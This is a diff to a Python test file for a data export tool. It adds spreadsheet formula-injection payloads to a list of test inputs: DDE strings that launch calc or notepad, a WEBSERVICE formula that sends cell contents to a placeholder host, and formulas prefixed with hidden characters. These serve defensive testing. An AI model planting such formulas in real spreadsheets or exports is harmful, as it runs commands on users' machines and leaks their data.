@@ -39,6 +39,13 @@ FORMULAS = [
         "\u200b=1",
     ),
     *('=HYPERLINK("http://x.example")', "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "=@X"),
+    *(
+        '=WEBSERVICE("http://x.example/?"&A1)',
+        '=IMPORTXML("http://x.example","//a")',
+        '=IMAGE("http://x.example/a.png")',
+    ),
+    *('=DDE("cmd";"/C calc";"x")', "@SUM(1+1)*cmd|' /C calc'!A0", '=1+1+cmd|"/C notepad"!"A1"', "{=SUM(A1:A2)}"[1:]),
+    *("\ufeff=1+1", "\u00a0@A1", "\r\n=1+1", "\t@SUM(A1)", "=\u202e1+1", "+66 2 123 4567", "-", "=A1\n=A2"),
 ]
 
 
@@ -95,8 +102,9 @@ def test_every_subject_takes_every_filter_it_can(store: Store, tmp_path: Path, s
 
 
 def test_an_unknown_ending_is_refused(store: Store, tmp_path: Path) -> None:
-    with pytest.raises(UsageError, match=r"\.jsonl or \.csv"):
+    with pytest.raises(UsageError, match=r"\.jsonl, \.csv, \.xlsx or \.parquet"):
         export(store, "articles", str(tmp_path / "articles.doc"), Filters())
+    assert list(tmp_path.glob("*articles*")) == []
 
 
 def test_a_folder_that_is_not_there_is_said(store: Store, tmp_path: Path) -> None:
